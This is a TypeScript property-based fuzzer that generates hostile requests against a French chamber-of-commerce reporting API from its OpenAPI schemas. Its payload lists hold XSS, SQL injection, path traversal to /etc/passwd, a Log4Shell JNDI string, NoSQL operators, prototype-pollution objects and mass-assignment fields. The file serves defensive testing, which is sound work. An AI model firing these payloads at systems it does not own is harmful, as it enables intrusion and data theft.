import { readFileSync } from 'node:fs';

import type { Cci, ReferenceData } from '@cci/domain';
import fc from 'fast-check';

import type { Call } from './http.js';

/** The part of JSON Schema the two OpenAPI documents use. */
export type Schema = {
  $ref?: string;
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  minItems?: number;
  maxItems?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
};

type Parameter = { name: string; in: 'path' | 'query' | 'header'; required?: boolean; schema: Schema };
type Operation = {
  parameters?: Parameter[];
  requestBody?: { content: Record<string, { schema: Schema } | undefined> };
};
export type OpenApiDocument = {
  paths: Record<string, Record<string, Operation>>;
  components: { schemas: Record<string, Schema> };
};

export type Api = 'ingest' | 'read';
export type Endpoint = { api: Api; method: string; template: string; operation: Operation };

export function readOpenApi(file: string): OpenApiDocument {
  return JSON.parse(readFileSync(file, 'utf8')) as OpenApiDocument;
}

export function endpointsOf(api: Api, document: OpenApiDocument): Endpoint[] {
  return Object.entries(document.paths).flatMap(([template, operations]) =>
    Object.entries(operations).map(([method, operation]) => ({
      api,
      method: method.toUpperCase(),
      template,
      operation,
    })),
  );
}

/** A value that stays as written in the JSON text: JSON.stringify cannot write 1e400 or -0. */
const raw = (text: string) => `__raw__${text}__raw__`;
export function encodeJson(value: unknown): string {
  return JSON.stringify(value).replace(/"__raw__(.*?)__raw__"/g, '$1');
}

/** Values a hostile client puts where a field is expected. */
export const hostileValues: unknown[] = [
  null,
  true,
  0,
  -1,
  raw('-0'),
  raw('1e400'),
  raw('-1e400'),
  raw('123456789012345678901234567890'),
  raw('1.7976931348623157e309'),
  raw('5e-324'),
  2 ** 53 + 2,
  -(2 ** 63),
  0.1 + 0.2,
  '',
  ' ',
  'x'.repeat(5_000),
  '\u0000',
  '\ud800',
  '\u202e',
  '😀'.repeat(300),
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  '../../../../etc/passwd',
  '${jndi:ldap://exemple.invalid/a}',
  '{{7*7}}',
  '=HYPERLINK("https://exemple.invalid","clic")',
  { $ne: null },
  { $gt: '' },
  { $where: 'sleep(1000)' },
  { $regex: '.*' },
  ['$ne', 1],
  JSON.parse('{"__proto__":{"admin":true}}') as unknown,
  { constructor: { prototype: { admin: true } } },
  [],
  [[[[[[[[[[]]]]]]]]]],
  {},
  '2024-02-30',
  '9999-12-31',
  '0000-01-01',
  '+275760-09-13',
  '2024-13-01',
  '2024-01-01T25:00:00Z',
  '2999-01-01T00:00:00Z',
  '1969-12-31T23:59:59Z',
  'NaN',
  'Infinity',
  '1e400',
];

/** Fields that only the platform sets: a request naming them must be refused, and none may reach an event. */
export const massAssignment: Record<string, unknown> = {
  recordedBy: 'cci-intrus',
  cciId: 'cci-intrus',
  ownerCciId: 'cci-intrus',
  actor: { credentialId: 'intrus', person: 'intrus' },
  source: { service: 'intrus' },
  aggregateId: 'intrus:424242',
  aggregateVersion: 424242,
  schemaVersion: 424242,
  eventId: '42424242-4242-4242-8242-424242424242',
  recordedAt: '2000-01-01T00:00:00.000Z',
  correlationId: 'intrus',
  causationId: 'intrus',
  idempotencyKey: 'intrus',
  expectedVersion: 424242,
  writer: 'cci-intrus',
  role: 'national',
  isAdmin: true,
};
/** What the mass-assignment fields carry, to look for in the log afterwards. */
export const intruderMarkers = ['intrus', '424242'];

const hostileSegments = [
  '%24ne',
  '%FF',
  '%C3%28',
  '%00',
  '..%2F..%2Fetc%2Fpasswd',
  '..',
  '%2e%2e',
  '__proto__',
  'constructor',
  'prototype',
  '%E2%80%AE',
  'a'.repeat(3_000),
  '%25',
  '%',
  '%zz',
  'normandie%3FasOf%3D1',
  '%20',
  '%F0%9F%98%80',
  "'",
  '%22',
  '%3Cscript%3E',
  'NORMANDIE',
  '-',
];

const hostileQueries = [
  '$ne=1',
  'asOf[$gt]=2024-01-01',
  'asOf[]=2024-01-01',
  '__proto__[admin]=1',
  'constructor[prototype][admin]=1',
  'asOf=2024-01-01&asOf=2024-02-01',
  'cciId[$ne]=x',
  '%FF=1',
  'asOf=%FF',
  'asOf=9999-12-31',
  'asOf=0000-01-01',
  'asOf=2024-02-30',
  'asOf=-1',
  'asOf=1e400',
  `asOf=${'9'.repeat(400)}`,
  'asOf=',
  'cciId=',
  'cciId=%00',
  'depuis=2024-01-01',
  `x=${'y'.repeat(10_000)}`,
];

const hostileContentTypes = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'application/xml',
  'application/merge-patch+json',
  'APPLICATION/JSON',
  '*/*',
];

const header = fc.stringMatching(/^[ -~]{0,300}$/);

/** `arbitrary` `present` times in `present + absent`, otherwise null. */
function rarely<T>(arbitrary: fc.Arbitrary<T>, present: number, absent: number): fc.Arbitrary<T | null> {
  return fc.oneof({ arbitrary, weight: present }, { arbitrary: fc.constant(null), weight: absent });
}

/** Values from the reference data for the fields and parameters that name something. */
function knownValues(reference: ReferenceData): Record<string, fc.Arbitrary<unknown>> {
  const indicators = reference.coms.flatMap((c) => reference.indicatorsOfRegion(c.regionId));
  const ccis = fc.constantFrom(...reference.ccis.map((c) => c.id));
  const date = fc
    .record({
      year: fc.integer({ min: 2012, max: 2027 }),
      month: fc.integer({ min: 1, max: 12 }),
      day: fc.integer({ min: 1, max: 28 }),
    })
    .map(
      ({ year, month, day }) => `${year}-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}`,
    );
  return {
    cciId: ccis,
    ownerCciId: ccis,
    regionId: fc.constantFrom(...reference.regions.map((r) => r.id)),
    macroProcessId: fc.constantFrom(...reference.macroProcesses().map((m) => m.id)),
    functionId: fc.constantFrom(...reference.functions.map((f) => f.id)),
    indicatorId: fc.constantFrom(...indicators.map((i) => i.id)),
    unitId: fc.oneof(
      { arbitrary: fc.constant('entreprises'), weight: 3 },
      { arbitrary: fc.constantFrom(...reference.units.map((u) => u.id)), weight: 1 },
    ),
    occurredAt: fc
      .date({ min: new Date('2023-01-01'), max: new Date(Date.now() - 86_400_000), noInvalidDate: true })
      .map((d) => d.toISOString()),
    comId: fc.constantFrom(...reference.coms.map((c) => c.id)),
    axisId: fc.constantFrom(...reference.coms.flatMap((c) => c.axes.map((a) => a.id))),
    bodyId: fc.constantFrom(...reference.governanceBodies.map((b) => b.id)),
    period: fc.constantFrom(
      ...reference.coms.flatMap((c) => reference.reportingPeriods(c.id).map((p) => p.period)),
    ),
    actionId: fc.constantFrom('action-fuzz-a', 'action-fuzz-b', 'action-fuzz-c'),
    year: fc.integer({ min: 2022, max: 2028 }),
    value: fc.integer({ min: 0, max: 2_000 }),
    target: fc.integer({ min: 0, max: 2_000 }),
    expectedVersion: fc.integer({ min: 0, max: 3 }),
    asOf: date,
    effectiveDate: date,
    plannedOn: date,
    dueOn: date,
    startedOn: date,
    completedOn: date,
    abandonedOn: date,
    signedOn: date,
  };
}

/**
 * Values for a schema: what it allows, named things taken from the reference data half of the time
 * so that some requests get past validation into the decisions.
 */
export class SchemaArbitraries {
  private readonly known: Record<string, fc.Arbitrary<unknown>>;

  constructor(
    private readonly document: OpenApiDocument,
    reference: ReferenceData,
  ) {
    this.known = knownValues(reference);
  }

  resolve(schema: Schema): Schema {
    if (!schema.$ref) return schema;
    const name = schema.$ref.replace('#/components/schemas/', '');
    const target = this.document.components.schemas[name];
    if (!target) throw new Error(`unknown schema ${schema.$ref}`);
    return this.resolve(target);
  }

  value(input: Schema, name = '', depth = 0): fc.Arbitrary<unknown> {
    const schema = this.resolve(input);
    const generated = this.fromSchema(schema, depth);
    const known = this.known[name];
    return known ? fc.oneof({ arbitrary: known, weight: 3 }, { arbitrary: generated, weight: 1 }) : generated;
  }

  private fromSchema(schema: Schema, depth: number): fc.Arbitrary<unknown> {
    if (schema.const !== undefined) return fc.constant(schema.const);
    if (schema.enum) return fc.constantFrom(...schema.enum);
    const choices = schema.anyOf ?? schema.oneOf;
    if (choices) return fc.oneof(...choices.map((c) => this.value(c, '', depth + 1)));
    if (schema.allOf?.[0]) return this.value(schema.allOf[0], '', depth + 1);
    const types = Array.isArray(schema.type) ? schema.type : schema.type ? [schema.type] : [];
    if (types.length > 1)
      return fc.oneof(...types.map((type) => this.fromSchema({ ...schema, type }, depth)));
    const [type] = types;
    if (type === undefined) return depth > 3 ? fc.constant(null) : fc.jsonValue({ maxDepth: 2 });
    switch (type) {
      case 'string':
        return this.string(schema);
      case 'integer':
        return fc.integer({ min: schema.minimum ?? -1_000, max: Math.min(schema.maximum ?? 10_000, 10_000) });
      case 'number':
        return fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e6, max: 1e6 });
      case 'boolean':
        return fc.boolean();
      case 'null':
        return fc.constant(null);
      case 'array':
        return depth > 4
          ? fc.constant([])
          : fc.array(this.value(schema.items ?? {}, '', depth + 1), {
              minLength: schema.minItems ?? 0,
              maxLength: Math.min(schema.maxItems ?? 4, 4),
            });
      case 'object':
        return this.object(schema, depth);
      default:
        return depth > 3 ? fc.constant(null) : fc.jsonValue({ maxDepth: 2 });
    }
  }

  private string(schema: Schema): fc.Arbitrary<string> {
    if (schema.format === 'date')
      return fc
        .date({ min: new Date('1990-01-01'), max: new Date('2035-12-31'), noInvalidDate: true })
        .map((d) => d.toISOString().slice(0, 10));
    if (schema.format === 'date-time')
      return fc
        .date({ min: new Date('1990-01-01'), max: new Date('2035-12-31'), noInvalidDate: true })
        .map((d) => d.toISOString());
    if (schema.pattern) {
      // The occurredAt pattern is huge; a valid instant is enough there.
      if (schema.pattern.length > 200) return fc.date({ noInvalidDate: true }).map((d) => d.toISOString());
      return fc
        .stringMatching(new RegExp(schema.pattern))
        .filter((s) => s.length <= (schema.maxLength ?? 200));
    }
    return fc.string({ minLength: schema.minLength ?? 0, maxLength: Math.min(schema.maxLength ?? 60, 60) });
  }

  private object(schema: Schema, depth: number): fc.Arbitrary<Record<string, unknown>> {
    const properties = Object.entries(schema.properties ?? {});
    if (depth > 4 || properties.length === 0) return fc.constant({});
    const record = Object.fromEntries(properties.map(([name, s]) => [name, this.value(s, name, depth + 1)]));
    return fc.record(record, { requiredKeys: schema.required ?? [] });
  }
}

/** A request body: an object to mutate, then its bytes and the content type it is sent with. */
function mutatedBody(body: fc.Arbitrary<unknown>, properties: readonly string[]): fc.Arbitrary<unknown> {
  const withField = <T>(f: (value: Record<string, unknown>, extra: T) => unknown, extra: fc.Arbitrary<T>) =>
    fc
      .tuple(body, extra)
      .map(([value, e]) =>
        typeof value === 'object' && value !== null && !Array.isArray(value)
          ? f({ ...(value as Record<string, unknown>) }, e)
          : value,
      );
  const extraFields = Object.keys(massAssignment).filter((k) => !properties.includes(k));
  return fc.oneof(
    { arbitrary: body, weight: 6 },
    {
      // One field gets a hostile value.
      arbitrary: withField(
        (value, [index, hostile]) => {
          const keys = Object.keys(value);
          const key = keys[index % Math.max(keys.length, 1)] ?? 'cciId';
          value[key] = hostile;
          return value;
        },
        fc.tuple(fc.nat(), fc.constantFrom(...hostileValues)),
      ),
      weight: 3,
    },
    {
      // Mass assignment: fields that only the platform sets.
      arbitrary: withField(
        (value, chosen) => {
          for (const key of chosen) value[key] = massAssignment[key];
          return value;
        },
        fc.subarray(extraFields, { minLength: 1, maxLength: 3 }),
      ),
      weight: 2,
    },
    {
      // A required field missing.
      arbitrary: withField((value, index) => {
        const keys = Object.keys(value);
        const missing = keys[index % Math.max(keys.length, 1)];
        return Object.fromEntries(Object.entries(value).filter(([k]) => k !== missing));
      }, fc.nat()),
      weight: 1,
    },
    {
      // Prototype pollution at the top level.
      arbitrary: withField(
        (value, key) =>
          JSON.parse(
            `{"${key}":{"admin":true,"prototype":{"admin":true}},${encodeJson(value).slice(1)}`,
          ) as unknown,
        fc.constantFrom('__proto__', 'constructor', 'prototype'),
      ),
      weight: 1,
    },
  );
}

export type FuzzCase = { api: Api; call: Call; endpoint: string; keyCci: string | null };

type Keys = { cciIds: readonly string[]; key: (cciId: string) => string };

/** Limits the fuzzer keeps to: a body just over each API's limit, and the operator gestures it does not start. */
export type FuzzOptions = {
  bodyLimits: Record<Api, number>;
  expensive: (endpoint: Endpoint, cciId: string) => boolean;
};

/**
 * One request, generated from an endpoint of an OpenAPI document: the method (sometimes another), the
 * path with its parameters (sometimes hostile), query parameters (known and unknown), headers, a key
 * (usually a real CCI's, sometimes none or garbage), and a body from the schema, mutated, encoded or
 * broken in one of many ways.
 */
export function requestArbitrary(
  endpoints: readonly Endpoint[],
  documents: Record<Api, OpenApiDocument>,
  reference: ReferenceData,
  keys: Keys,
  options: FuzzOptions,
): fc.Arbitrary<FuzzCase> {
  const schemas = {
    ingest: new SchemaArbitraries(documents.ingest, reference),
    read: new SchemaArbitraries(documents.read, reference),
  };
  const perEndpoint = endpoints.map((endpoint) => {
    const values = schemas[endpoint.api];
    const parameters = endpoint.operation.parameters ?? [];
    const pathParameters = parameters.filter((p) => p.in === 'path');
    const path = fc
      .tuple(
        ...pathParameters.map((p) =>
          fc.oneof(
            {
              arbitrary: values.value(p.schema, p.name).map((v) => encodeURIComponent(String(v))),
              weight: 4,
            },
            { arbitrary: fc.constantFrom(...hostileSegments), weight: 1 },
          ),
        ),
      )
      .map((segments) =>
        pathParameters.reduce(
          (template, p, i) => template.replace(`{${p.name}}`, segments[i]!),
          endpoint.template,
        ),
      );
    const queryParameters = parameters.filter((p) => p.in === 'query');
    const query = fc
      .tuple(
        fc.tuple(
          ...queryParameters.map((p) =>
            rarely(
              values.value(p.schema, p.name).map((v) => `${p.name}=${encodeURIComponent(String(v))}`),
              1,
              1,
            ),
          ),
        ),
        rarely(fc.constantFrom(...hostileQueries), 1, 6),
      )
      .map(([known, hostile]) => [...known, hostile].filter((q): q is string => q !== null).join('&'));
    const schema = endpoint.operation.requestBody?.content['application/json']?.schema;
    const properties = schema ? Object.keys(values.resolve(schema).properties ?? {}) : [];
    let body: fc.Arbitrary<unknown> = fc.constant(undefined);
    if (endpoint.template === '/v1/commands/batch') {
      // Built once per command type: building a schema's arbitraries costs far more than drawing from them.
      const item = fc.oneof(
        ...commandSchemaNames(documents.ingest).map((type) =>
          fc
            .tuple(
              mutatedBody(schemas.ingest.value({ $ref: `#/components/schemas/${type}` }), []),
              rarely(fc.stringMatching(/^[A-Za-z0-9._:-]{1,40}$/), 1, 1),
            )
            .map(([b, key]) => ({ type, body: b, ...(key === null ? {} : { idempotencyKey: key }) })),
        ),
      );
      body = mutatedBody(fc.record({ commands: fc.array(item, { minLength: 1, maxLength: 6 }) }), [
        'commands',
      ]);
    } else if (schema) {
      body = mutatedBody(values.value(schema), properties);
    }
    // The probes and documents are drawn less often than the API's operations.
    const weight = endpoint.template.startsWith('/v1/') ? 4 : 1;
    return { arbitrary: fc.record({ endpoint: fc.constant(endpoint), path, query, body }), weight };
  });

  /** Bodies broken below the JSON level, by name; the oversized one is just over the API's limit. */
  const brokenBodies: Record<string, (api: Api) => string | Buffer> = {
    'invalid JSON': () => '{"cciId": ',
    'invalid UTF-8': () =>
      Buffer.concat([
        Buffer.from('{"cciId":"cci-'),
        Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
        Buffer.from('"}'),
      ]),
    'UTF-16': () => Buffer.from([0xfe, 0xff, 0x00, 0x7b, 0x00, 0x7d]),
    'deep JSON': () => `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
    'deep array': () => `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
    oversized: (api) => `{"comment":"${'x'.repeat(options.bodyLimits[api] + 10)}"}`,
    empty: () => '',
    null: () => 'null',
    'a string': () => '"texte"',
    'a huge number': () => '1e400',
    BOM: () => '\uFEFF{}',
    'duplicate keys': () => '{"cciId":"cci-rouen-metropole","cciId":"cci-france"}',
    'trailing garbage': () => '{"a":1}garbage',
  };

  return fc
    .record({
      chosen: fc.oneof(...perEndpoint),
      method: fc.oneof(
        { arbitrary: fc.constant(null), weight: 12 },
        { arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD'), weight: 1 },
      ),
      key: fc.oneof(
        { arbitrary: fc.constantFrom(...keys.cciIds), weight: 10 },
        { arbitrary: fc.constantFrom('none', 'garbage', 'x-api-key'), weight: 1 },
      ),
      coherent: fc.boolean(),
      contentType: fc.oneof(
        { arbitrary: fc.constant('application/json'), weight: 12 },
        { arbitrary: fc.constantFrom(...hostileContentTypes), weight: 1 },
      ),
      broken: rarely(fc.constantFrom(...Object.keys(brokenBodies)), 1, 15),
      idempotencyKey: rarely(
        fc.oneof(
          { arbitrary: fc.stringMatching(/^[A-Za-z0-9._:-]{1,40}$/), weight: 6 },
          { arbitrary: fc.constantFrom('a'.repeat(201), 'clé', 'a b', '$ne', '../x'), weight: 1 },
        ),
        1,
        1,
      ),
      person: rarely(header, 1, 2),
      correlation: rarely(header, 1, 3),
      plausible: rarely(fc.array(fc.nat(), { minLength: 6, maxLength: 6 }), 1, 2),
    })
    .map(
      ({
        chosen,
        method,
        key,
        coherent,
        contentType,
        broken,
        idempotencyKey,
        person,
        correlation,
        plausible,
      }) => {
        const { endpoint } = chosen;
        let keyCci: string | null = keys.cciIds.includes(key) ? key : null;
        // The suite does not start rebuilds and full reconciliations: it asks a key that may not.
        if (keyCci && options.expensive(endpoint, keyCci)) keyCci = 'cci-mayenne';
        let body = chosen.body;
        // A third of the commands are plausible ones, so that some are accepted and reach the log.
        const command = commandOfPath(endpoint.template);
        if (plausible && keyCci && command)
          body = plausibleCommand(command, reference.cci(keyCci)!, reference, plausible);
        // Half the commands name the writer itself, so that some get past tenancy into the decisions.
        if (coherent && keyCci) body = naming(body, reference.cci(keyCci)!);
        const headers: Record<string, string> = {};
        if (keyCci) headers.authorization = `Bearer ${keys.key(keyCci)}`;
        else if (key === 'garbage') headers.authorization = 'Bearer cci_000000000000_AAAA';
        else if (key === 'x-api-key') headers['x-api-key'] = 'cci_garbage';
        if (idempotencyKey !== null) headers['idempotency-key'] = idempotencyKey;
        if (person !== null) headers['x-person'] = person;
        if (correlation !== null) headers['x-correlation-id'] = correlation;
        const bytes =
          broken !== null
            ? brokenBodies[broken]!(endpoint.api)
            : body === undefined
              ? undefined
              : encodeJson(body);
        if (bytes !== undefined) headers['content-type'] = contentType;
        const verb = method ?? endpoint.method;
        return {
          api: endpoint.api,
          endpoint: `${endpoint.method} ${endpoint.template}`,
          keyCci,
          call: {
            method: verb,
            path: chosen.query === '' ? chosen.path : `${chosen.path}?${chosen.query}`,
            headers,
            ...(bytes === undefined || verb === 'GET' || verb === 'HEAD' ? {} : { body: bytes }),
            streamMs: 50,
          },
        };
      },
    );
}

const COMMANDS: Record<string, string> = {
  '/v1/commands/change-process-mode': 'ChangeProcessMode',
  '/v1/commands/set-process-mode-target': 'SetProcessModeTarget',
  '/v1/commands/plan-action': 'PlanAction',
  '/v1/commands/start-action': 'StartAction',
  '/v1/commands/complete-action': 'CompleteAction',
  '/v1/commands/abandon-action': 'AbandonAction',
  '/v1/commands/set-indicator-target': 'SetIndicatorTarget',
  '/v1/commands/set-indicator-trajectory': 'SetIndicatorTrajectory',
  '/v1/commands/report-indicator': 'ReportIndicator',
  '/v1/commands/correct-indicator-report': 'CorrectIndicatorReport',
  '/v1/commands/sign-objectives-convention': 'SignObjectivesConvention',
  '/v1/commands/draft-indicator-value': 'DraftIndicatorValue',
  '/v1/commands/declare-indicator-draft': 'DeclareIndicatorDraft',
  '/v1/commands/validate-declaration': 'ValidateDeclaration',
  '/v1/commands/send-back-declaration': 'SendBackDeclaration',
  '/v1/commands/close-campaign': 'CloseCampaign',
  '/v1/commands/reopen-campaign-for-cci': 'ReopenCampaignForCci',
  '/v1/commands/record-srom-annual-review': 'RecordSromAnnualReview',
  '/v1/commands/present-annual-report': 'PresentAnnualReport',
};

function commandOfPath(template: string): string | undefined {
  return COMMANDS[template];
}

/**
 * A command the writer may well be allowed to send, drawn from the reference data with `n` (random
 * numbers): its own indicators in their unit, past quarters, modes, actions of a small pool.
 */
function plausibleCommand(
  type: string,
  writer: Cci,
  reference: ReferenceData,
  n: readonly number[],
): unknown {
  const pick = <T>(list: readonly T[], i: number): T => list[n[i]! % list.length]!;
  const regionId = writer.regionId ?? 'normandie';
  const indicator = pick(
    reference.indicatorsOfRegion(regionId).length > 0
      ? reference.indicatorsOfRegion(regionId)
      : reference.indicatorsOfRegion('normandie'),
    0,
  );
  const quarters = reference.coms
    .flatMap((c) => reference.reportingPeriods(c.id).map((p) => p.period))
    .filter((p) => p.includes('T') && p < '2026-T4');
  const period = pick(quarters, 1);
  const macroProcessId = pick(reference.macroProcesses(), 2).id;
  const mode = pick(['A', 'C', 'H', 'M'], 3);
  const actionId = pick(['action-fuzz-a', 'action-fuzz-b', 'action-fuzz-c', 'action-fuzz-d'], 4);
  const value = n[5]! % 500;
  const date = `2025-${String((n[5]! % 9) + 1).padStart(2, '0')}-15`;
  switch (type) {
    case 'ReportIndicator':
      return {
        cciId: writer.id,
        indicatorId: indicator.id,
        period,
        value,
        unitId: indicator.unitId,
        comment: n[3]! % 2 ? 'Relevé trimestriel' : null,
      };
    case 'CorrectIndicatorReport':
      return {
        cciId: writer.id,
        indicatorId: indicator.id,
        period,
        value: value + 1,
        unitId: indicator.unitId,
        reason: 'Doublons retirés',
      };
    case 'DraftIndicatorValue':
      return { cciId: writer.id, indicatorId: indicator.id, period, value, unitId: indicator.unitId };
    case 'DeclareIndicatorDraft':
      return { cciId: writer.id, indicatorId: indicator.id, period };
    case 'ValidateDeclaration':
      return { cciId: writer.id, indicatorId: indicator.id, period, declaredVersion: 1 + (n[1]! % 2) };
    case 'SendBackDeclaration':
      return {
        cciId: writer.id,
        indicatorId: indicator.id,
        period,
        declaredVersion: 1 + (n[1]! % 2),
        comment: 'À vérifier',
      };
    case 'CloseCampaign':
      return { regionId, period, acknowledgedMissing: n[5]! % 80 };
    case 'ReopenCampaignForCci':
      return {
        regionId,
        period,
        cciId: pick(reference.ccisOfRegion(regionId), 3).id,
        reason: 'Chiffre oublié',
      };
    case 'RecordSromAnnualReview':
      return { regionId, year: 2025, reviewedOn: date, summary: 'Revue annuelle du SROM' };
    case 'PresentAnnualReport':
      return {
        regionId,
        year: 2025,
        edition: 1 + (n[1]! % 2),
        presentedOn: date,
        deliberation: "L'Assemblée générale prend acte du rapport.",
        snapshot: { asOf: date, srom: [], actions: [], indicators: [] },
      };
    case 'SetIndicatorTrajectory':
      return {
        cciId: writer.id,
        indicatorId: indicator.id,
        baseline: { year: 2022, value },
        finalTarget: value + 100,
        unitId: indicator.unitId,
      };
    case 'SetIndicatorTarget':
      return {
        cciId: writer.id,
        indicatorId: indicator.id,
        year: 2023 + (n[1]! % 5),
        target: value,
        unitId: indicator.unitId,
      };
    case 'ChangeProcessMode':
      return {
        cciId: writer.id,
        macroProcessId,
        from: null,
        to: mode,
        effectiveDate: date,
        rationale: 'Décision du Bureau',
        expectedVersion: n[1]! % 2,
      };
    case 'SetProcessModeTarget':
      return { cciId: writer.id, macroProcessId, mode, rationale: 'Cible', expectedVersion: n[1]! % 2 };
    case 'PlanAction':
      return {
        actionId,
        regionId,
        ownerCciId: writer.id,
        title: 'Mutualiser la paie',
        plannedOn: '2025-01-10',
      };
    case 'StartAction':
      return { actionId, startedOn: date };
    case 'CompleteAction':
      return { actionId, completedOn: date };
    case 'AbandonAction':
      return { actionId, abandonedOn: date, reason: 'Priorités revues' };
    default: {
      const com = reference.comOfRegion(regionId);
      return {
        comId: com?.id ?? 'com-normandie-2023-2027',
        signedOn: '2023-06-30',
        signedOnText: '30 juin 2023',
        place: 'Caen',
        signatories: ['Préfète de région'],
      };
    }
  }
}

/** The body with its CCI (and region) fields naming `cci`, batch items included. */
function naming(value: unknown, cci: Cci): unknown {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return value;
  const record = { ...(value as Record<string, unknown>) };
  if ('cciId' in record) record.cciId = cci.id;
  if ('ownerCciId' in record) record.ownerCciId = cci.id;
  if ('regionId' in record && cci.regionId) record.regionId = cci.regionId;
  if (Array.isArray(record.commands)) {
    record.commands = record.commands.map((item: unknown) =>
      typeof item === 'object' && item !== null
        ? { ...item, body: naming((item as { body?: unknown }).body, cci) }
        : item,
    );
  }
  return record;
}

function commandSchemaNames(document: OpenApiDocument): string[] {
  return Object.entries(document.paths)
    .map(([, operations]) => operations.post?.requestBody?.content['application/json']?.schema.$ref)
    .filter((ref): ref is string => ref !== undefined && ref !== '#/components/schemas/BatchRequest')
    .map((ref) => ref.replace('#/components/schemas/', ''));
}
